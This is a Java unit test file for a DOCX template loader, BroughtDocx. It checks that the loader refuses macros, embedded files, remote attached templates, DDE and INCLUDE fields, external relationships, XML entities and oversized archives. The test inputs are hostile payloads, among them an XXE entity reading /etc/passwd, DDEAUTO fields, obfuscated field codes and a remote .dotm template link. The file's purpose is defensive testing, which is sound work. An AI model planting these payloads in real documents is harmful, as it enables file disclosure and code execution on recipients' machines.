package org.pacta.report.paper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pacta.machine.Refused;

/// Templates that would do more than be filled.
class BroughtDocxTest {

    private static final String BEGIN = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    private static final String END = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    private static byte[] plain() throws IOException {
        try (var document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("${title}");
            document.createParagraph()
                    .createHyperlinkRun("https://pacta.example/")
                    .setText("our page");
            var bytes = new ByteArrayOutputStream();
            document.write(bytes);
            return bytes.toByteArray();
        }
    }

    /// The plain document with one more part, or with words put before the end of a part that it has.
    private static byte[] with(String part, byte[] content, String before) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var from = new ZipInputStream(new ByteArrayInputStream(plain()));
                var to = new ZipOutputStream(bytes)) {
            boolean there = false;
            for (var each = from.getNextEntry(); each != null; each = from.getNextEntry()) {
                to.putNextEntry(new ZipEntry(each.getName()));
                var old = from.readAllBytes();
                if (each.getName().equals(part)) {
                    there = true;
                    var text = new String(old, StandardCharsets.UTF_8);
                    int at = text.indexOf(before);
                    assertThat(at).as(text).isNotNegative();
                    old = (text.substring(0, at) + new String(content, StandardCharsets.UTF_8) + text.substring(at))
                            .getBytes(StandardCharsets.UTF_8);
                }
                to.write(old);
            }
            if (!there) {
                to.putNextEntry(new ZipEntry(part));
                to.write(content);
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] with(String part, String content, String before) throws IOException {
        return with(part, content.getBytes(StandardCharsets.UTF_8), before);
    }

    private static void refused(byte[] template, String words) {
        assertThatThrownBy(() -> BroughtDocx.open(template))
                .isInstanceOf(Refused.class)
                .hasMessageContaining(words);
    }

    @Test
    void aPlainDocumentWithLinksIsRead() throws IOException {
        try (var document = BroughtDocx.open(plain())) {
            assertThat(document.getParagraphs()).hasSize(2);
        }
    }

    @Test
    void macrosAndEmbeddedFilesAreRefused() throws IOException {
        refused(with("word/vbaProject.bin", "x", ""), "macros, controls or embedded files");
        refused(with("word/embeddings/table.xlsx", "x", ""), "macros, controls or embedded files");
        refused(
                with(
                        "[Content_Types].xml",
                        "<Override PartName=\"/word/x.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>",
                        "</Types>"),
                "with macros");
    }

    @Test
    void whatReachesOutsideIsRefused() throws IOException {
        refused(
                with(
                        "word/_rels/document.xml.rels",
                        "<Relationship Id=\"rId99\" TargetMode=\"External\" Target=\"http://192.0.2.1/x.dotm\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/>",
                        "</Relationships>"),
                "fetches something from outside");
        refused(
                with(
                        "word/document.xml",
                        "<w:p><w:r><w:instrText>DDEAUTO c:\\\\x \"y\"</w:instrText></w:r></w:p>",
                        "</w:body>"),
                "fetch from other files");
        refused(
                with("customXml/item1.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", ""),
                "entities of its own");
        refused(
                with("customXml/item2.xml", "<!DOCTYPE a><a/>".getBytes(StandardCharsets.UTF_16), ""),
                "entities of its own");
    }

    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /// Ways to say what is refused that a look at the letters alone would miss.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<w:p><w:fldSimple w:instr=\" includetext 'c:/x.docx' \"/></w:p>",
                "<w:p><w:fldSimple w:instr=\"I&#78;CLUDEPICTURE x\"><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>",
                BEGIN + "<w:r><w:instrText> Include</w:instrText></w:r><w:r><w:instrText>Text x</w:instrText></w:r>"
                        + END,
                BEGIN + "<w:r><w:instrText> dde&#97;uto c:/x y</w:instrText></w:r>" + END,
                BEGIN
                        + "<w:r><w:instrText>IN</w:instrText></w:r><w:r><w:t>no</w:t></w:r><w:r><w:instrText>CLUDETEXT x</w:instrText></w:r>"
                        + END,
                BEGIN + "<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>" + BEGIN
                        + "<w:r><w:instrText>link a b</w:instrText></w:r>" + END + END,
                BEGIN + BEGIN + "<w:r><w:instrText>QUOTE INCLUDETEXT</w:instrText></w:r>" + END + END,
                "<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r></w:p>",
                "<w:p><w:r><w:instrText>DATABASE \\d x</w:instrText></w:r></w:p>",
            })
    void fieldsThatFetchAreRefusedHoweverTheyAreWritten(String field) throws IOException {
        refused(with("word/document.xml", field, "</w:body>"), "fetch from other files");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "TargetMode=\"&#69;xternal\" Target=\"http://192.0.2.1/x.png\" Type=\"" + OFFICE + "image\"",
                "TargetMode = 'External' Target=\"file:///c:/x.dotm\" Type=\"" + OFFICE + "attachedTemplate\"",
                "Target=\"http://192.0.2.1/x\" Type=\"" + OFFICE + "image\"",
                "TargetMode=\"External\" Target=\"file://192.0.2.1/x\" Type=\"" + OFFICE + "hyperlink\"",
                "TargetMode=\"external\" Target=\"a&gt;b\" Type=\"" + OFFICE + "frame\"",
            })
    void relationsThatLeadOutsideAreRefusedHoweverTheyAreWritten(String relation) throws IOException {
        refused(
                with(
                        "word/_rels/document.xml.rels",
                        "<Relationship Id=\"rId99\" " + relation + "/>",
                        "</Relationships>"),
                "from outside");
    }

    @Test
    void aPartIsLookedThroughWhateverItsNameSays() throws IOException {
        refused(
                with("word/media/image7.png", "<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\"RD x\"/></w:p>", ""),
                "fetch from other files");
        refused(
                with(
                        "word/document.xml",
                        "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata src=\"http://192.0.2.1/x\"/></v:shape></w:pict></w:r></w:p>",
                        "</w:body>"),
                "from outside");
    }

    @Test
    void fieldsThatOnlyCountAreRead() throws IOException {
        var fields = BEGIN + "<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>LINK</w:t></w:r>" + END
                + BEGIN + "<w:r><w:instrText>IF </w:instrText></w:r>" + BEGIN
                + "<w:r><w:instrText>PAGE</w:instrText></w:r>" + END
                + "<w:r><w:instrText> = 1 \"a link\"</w:instrText></w:r>" + END
                + "<w:p><w:fldSimple w:instr=\"HYPERLINK https://pacta.example/link\"/></w:p>";
        try (var document = BroughtDocx.open(with("word/document.xml", fields, "</w:body>"))) {
            assertThat(document.getParagraphs()).hasSize(3);
        }
    }

    @Test
    void whatGrowsWithoutEndIsRefused() throws IOException {
        refused(with("word/media/image1.png", new byte[(int) BroughtDocx.UNPACKED], ""), "64 MiB when it is unpacked");
        refused(new byte[BroughtDocx.LARGEST + 1], "larger than 10 MiB");
    }

    @Test
    void anyBytesAreReadOrRefusedInWords() throws IOException {
        var plain = plain();
        for (int seed = 0; seed < 60; seed++) {
            var random = new Random(seed);
            var bytes = plain.clone();
            for (int i = 0; i < 5; i++) bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
            try (var document = BroughtDocx.open(bytes)) {
                assertThat(document.getParagraphs()).as("seed " + seed).isNotNull();
            } catch (Refused e) {
                assertThat(e.getMessage()).as("seed " + seed).contains("template");
            }
        }
    }
}
